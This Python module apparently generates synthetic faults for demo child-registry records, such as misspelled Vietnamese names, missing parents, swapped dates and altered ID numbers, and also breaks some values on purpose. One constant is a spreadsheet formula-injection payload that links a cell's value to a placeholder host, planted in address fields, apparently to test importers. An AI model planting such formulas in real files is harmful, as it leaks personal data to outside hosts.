"""The faults of ordinary records: which kinds there are, how often each system has them, and what they do."""

from __future__ import annotations

from collections.abc import Callable, Sequence
from dataclasses import dataclass
from datetime import date
from random import Random
from typing import Final

from registry.demo import misspelling
from registry.demo.chance import Weighted, pick, whole
from registry.demo.drafts import Draft, System
from registry.demo.gazetteer import Gazetteer, home_in
from registry.demo.names import FEMALE, MALE

_SYSTEMS: Final = tuple(System)  # the order of the rates below


@dataclass(frozen=True, slots=True)
class Fault:
    """One way for a record to differ from the truth."""

    kind: str
    rates: tuple[float, float, float, float, float]  # in hundredths of the records that can have it, by system
    work: Callable[[Draft, Random], bool]  # True if the draft was changed


_NICKNAMES: Final = (
    *("Bi", "Bo", "Bin", "Bông", "Bống", "Ben", "Chíp", "Cún", "Gấu", "Kem", "Ken", "Khoai", "Mít", "Moon", "Na"),
    *("Nấm", "Nhím", "Sóc", "Su", "Sữa", "Tèo", "Tít", "Tôm", "Thỏ", "Xoài"),
)
_OTHER_SURNAMES: Final = Weighted([("Nguyễn", 5), ("Trần", 3), ("Lê", 3), ("Phạm", 2), ("Hoàng", 1), ("Trương", 1)])


def nickname(draft: Draft, rng: Random) -> str:
    """Return what a small child is called at home."""
    word = pick(rng, _NICKNAMES) if rng.random() < 0.75 else draft.child.called.given
    lead = pick(rng, ("", "Bé ", "Cu " if draft.child.sex == MALE else "Bé ", "Em "))
    return (lead + word) if lead or word in _NICKNAMES else f"Bé {word}"


def _respell(change: Callable[[Random, str], str]) -> Callable[[Draft, Random], bool]:
    def work(draft: Draft, rng: Random) -> bool:
        before, draft.name = draft.name, change(rng, draft.name)
        return draft.name != before

    return work


def _call_by_nickname(draft: Draft, rng: Random) -> bool:
    draft.name = nickname(draft, rng)
    return True


def _forget_mother(draft: Draft, _rng: Random) -> bool:
    known, draft.mother = draft.mother is not None, None
    return known


def _forget_father(draft: Draft, _rng: Random) -> bool:
    known, draft.father = draft.father is not None, None
    return known


def _mistype_mother(draft: Draft, rng: Random) -> bool:
    if draft.mother is None:
        return False
    draft.mother = misspelling.mistyped(rng, draft.mother)
    return True


def _mistype_father(draft: Draft, rng: Random) -> bool:
    if draft.father is None:
        return False
    draft.father = misspelling.mistyped(rng, draft.father)
    return True


def _name_mother_otherwise(draft: Draft, rng: Random) -> bool:
    if draft.mother is None:
        return False
    before = draft.mother
    syllables = before.split(" ")
    roll = rng.random()
    if roll < 0.4:
        syllables[0] = _OTHER_SURNAMES.draw(rng)
    elif roll < 0.8 and len(syllables) > 2:
        del syllables[1:-1]
    else:
        syllables = [draft.household.mother.called.given]
    draft.mother = " ".join(syllables)
    return draft.mother != before


def _remove_marks(draft: Draft, _rng: Random) -> bool:
    before = (draft.name, draft.mother, draft.father)
    draft.name = misspelling.without_marks(draft.name)
    draft.mother = misspelling.without_marks(draft.mother) if draft.mother else draft.mother
    draft.father = misspelling.without_marks(draft.father) if draft.father else draft.father
    return before != (draft.name, draft.mother, draft.father)


def _lower_case(draft: Draft, _rng: Random) -> bool:
    draft.name = draft.name.lower()
    return True


def _swap_day_and_month(draft: Draft, _rng: Random) -> bool:
    year, month, day = draft.born
    if day > 12 or day == month or date(year, day, month) > draft.on:
        return False
    draft.born = (year, day, month)
    return True


def _miss_the_year(draft: Draft, rng: Random) -> bool:
    year, month, day = draft.born
    later = rng.random() < 0.4 and date(year + 1, month, min(day, 28)) <= draft.on
    draft.born = (year + 1 if later else year - 1, month, min(day, 28))
    return True


def _first_of_january(draft: Draft, _rng: Random) -> bool:
    before = draft.born
    draft.born = (before[0], 1, 1)
    return draft.born != before


def _forget_number(draft: Draft, _rng: Random) -> bool:
    known, draft.number = draft.number is not None, None
    return known


def _old_number(draft: Draft, rng: Random) -> bool:
    if draft.number is None or not draft.child.former_numbers:
        return False
    draft.number = pick(rng, draft.child.former_numbers)
    return True


def _number_of_parent(draft: Draft, rng: Random) -> bool:
    father = draft.household.father
    draft.number = father.number if father is not None and rng.random() < 0.25 else draft.household.mother.number
    if "number_missing" in draft.faults:
        draft.faults.remove("number_missing")
    return True


def _mistype_number(draft: Draft, rng: Random) -> bool:
    if draft.number is None:
        return False
    place, by = whole(rng, 0, 11), whole(rng, 1, 9)
    draft.number = draft.number[:place] + str((int(draft.number[place]) + by) % 10) + draft.number[place + 1 :]
    return True


def _transpose_number(draft: Draft, rng: Random) -> bool:
    number = draft.number
    places = [] if number is None else [place for place in range(11) if number[place] != number[place + 1]]
    if number is None or not places:
        return False
    place = pick(rng, places)
    draft.number = number[:place] + number[place + 1] + number[place] + number[place + 2 :]
    return True


def _lose_the_zeros(draft: Draft, _rng: Random) -> bool:
    before = draft.number
    draft.number = before.lstrip("0") if before else before
    return draft.number != before


def _format_number(draft: Draft, rng: Random) -> bool:
    number = draft.number
    if number is None or len(number) != 12:
        return False
    groups = [number[place : place + 3] for place in range(0, 12, 3)]
    draft.number = pick(rng, (" ".join(groups), ".".join(groups), f"'{number}", f"{number} "))
    return True


def _forget_sex(draft: Draft, _rng: Random) -> bool:
    draft.sex = None
    return True


def _mistake_sex(draft: Draft, _rng: Random) -> bool:
    draft.sex = FEMALE if draft.sex == MALE else MALE
    return True


# Rates in hundredths: education, health, civil status, social aid, protection. Those of a fault that few names allow
# (a tone place, an apostrophe) are of the records that allow it, so that its share of all records is far lower.
FAULTS: Final = (
    Fault("nickname", (0.1, 1.0, 0.0, 0.5, 15.0), _call_by_nickname),
    Fault("middle_missing", (4.0, 4.4, 0.9, 5.0, 4.4), _respell(misspelling.without_a_middle)),
    Fault("i_y", (9.0, 7.0, 10.0, 12.0, 14.0), _respell(misspelling.i_for_y)),
    Fault("tone_place", (14.0, 9.0, 14.0, 9.0, 20.0), _respell(misspelling.tone_elsewhere)),
    Fault("d_dd", (1.6, 2.0, 1.7, 1.6, 1.5), _respell(misspelling.d_for_dd)),
    Fault("apostrophe", (24.0, 24.0, 24.0, 24.0, 24.0), _respell(misspelling.other_apostrophe)),
    Fault("typo", (3.7, 4.6, 0.7, 3.1, 4.8), _respell(misspelling.mistyped)),
    Fault("order_swapped", (0.9, 1.1, 0.3, 0.6, 0.6), _respell(misspelling.reordered)),
    Fault("mother_missing", (8.5, 3.4, 1.0, 22.1, 41.6), _forget_mother),
    Fault("father_missing", (11.0, 0.0, 2.6, 31.5, 56.0), _forget_father),
    Fault("mother_other_name", (0.9, 2.0, 0.25, 1.8, 0.8), _name_mother_otherwise),
    Fault("mother_typo", (5.2, 4.9, 0.8, 6.0, 7.0), _mistype_mother),
    Fault("father_typo", (3.8, 0.0, 0.8, 5.0, 5.0), _mistype_father),
    Fault("marks_removed", (7.5, 7.5, 1.2, 6.0, 9.6), _remove_marks),
    Fault("day_month", (2.8, 2.2, 0.4, 3.5, 4.0), _swap_day_and_month),
    Fault("year_off", (1.1, 1.3, 0.4, 2.0, 3.3), _miss_the_year),
    Fault("jan1", (1.7, 2.1, 0.4, 2.7, 3.0), _first_of_january),
    Fault("number_missing", (35.0, 59.7, 5.0, 49.9, 88.0), _forget_number),
    Fault("number_replaced", (40.0, 40.0, 40.0, 40.0, 40.0), _old_number),
    Fault("number_parent", (1.1, 0.8, 0.25, 0.7, 0.0), _number_of_parent),
    Fault("number_transposed", (0.8, 0.7, 0.1, 1.0, 1.5), _transpose_number),
    Fault("number_typo", (1.2, 0.6, 0.25, 1.0, 2.5), _mistype_number),
    Fault("number_zero_lost", (0.9, 0.0, 2.0, 1.8, 0.0), _lose_the_zeros),
    Fault("number_format", (0.7, 0.4, 0.2, 1.2, 1.5), _format_number),
    Fault("sex_missing", (1.4, 1.2, 0.5, 1.1, 1.8), _forget_sex),
    Fault("sex_wrong", (0.8, 0.4, 0.15, 0.9, 0.3), _mistake_sex),
    Fault("case", (0.9, 1.4, 0.0, 0.0, 0.0), _lower_case),
)
_MOVED: Final = (6.4, 7.9, 1.2, 9.2, 12.0)

BROKEN_ANYWHERE: Final = (
    "bad_date",
    "sex_x",
    "columns",
    "formula",
    "future_date",
    "nfd",
    "zero_width",
    "number_11_digits",
)
FORMULA: Final = '=HYPERLINK("http://lien-ket.invalid/?o="&B2,"Xem")'


def spoil(draft: Draft, system: System, rng: Random, places: Gazetteer) -> Draft:
    """Work the faults of a system into a draft and note them; return the same draft."""
    column = _SYSTEMS.index(system)
    if draft.number is None:
        draft.faults.append("number_missing")
    for fault in FAULTS:
        if rng.random() * 100 < fault.rates[column] and fault.work(draft, rng):
            draft.faults.append(fault.kind)
    if rng.random() * 100 < _MOVED[column]:
        draft.home = home_in(rng, places.elsewhere(rng, draft.home.place))
        draft.faults.append("moved")
    return draft


class Breakage:
    """Decides which records cannot be read: every kind in turn, evenly spaced, so that a small file has them all."""

    def __init__(self, kinds: Sequence[str], *, expected: int) -> None:
        self._kinds = tuple(kinds)
        self._period = min(max(expected // (len(self._kinds) + 1), 4), 160)
        self._records = 0

    def due(self) -> str | None:
        """Return the kind of the next record's damage, or None for a sound one."""
        self._records += 1
        turn, rest = divmod(self._records, self._period)
        return None if rest else self._kinds[(turn - 1) % len(self._kinds)]


def break_values(draft: Draft, kind: str, rng: Random) -> None:
    """Damage the values themselves; damage to the form of a row is the business of its system."""
    year, month, day = draft.born
    if kind == "bad_date":
        draft.born = (year, 2, 31)
    elif kind == "future_date":
        draft.born = (year + 16 + whole(rng, 2, 6), month, day)
    elif kind == "sex_x":
        draft.sex = "X"
    elif kind == "nfd":
        draft.name = misspelling.decomposed(draft.name)
    elif kind == "zero_width":
        draft.name = misspelling.with_zero_width(rng, draft.name)
    elif kind == "formula":
        draft.address = FORMULA
    elif kind == "number_11_digits":
        _lose_a_digit(draft, rng)
    draft.faults.append(f"broken:{kind}")


def _lose_a_digit(draft: Draft, rng: Random) -> None:
    number = draft.child.number or draft.household.mother.number
    place = whole(rng, 1, 11)
    draft.number = number[:place] + number[place + 1 :]
    draft.faults[:] = [fault for fault in draft.faults if not fault.startswith("number_")]
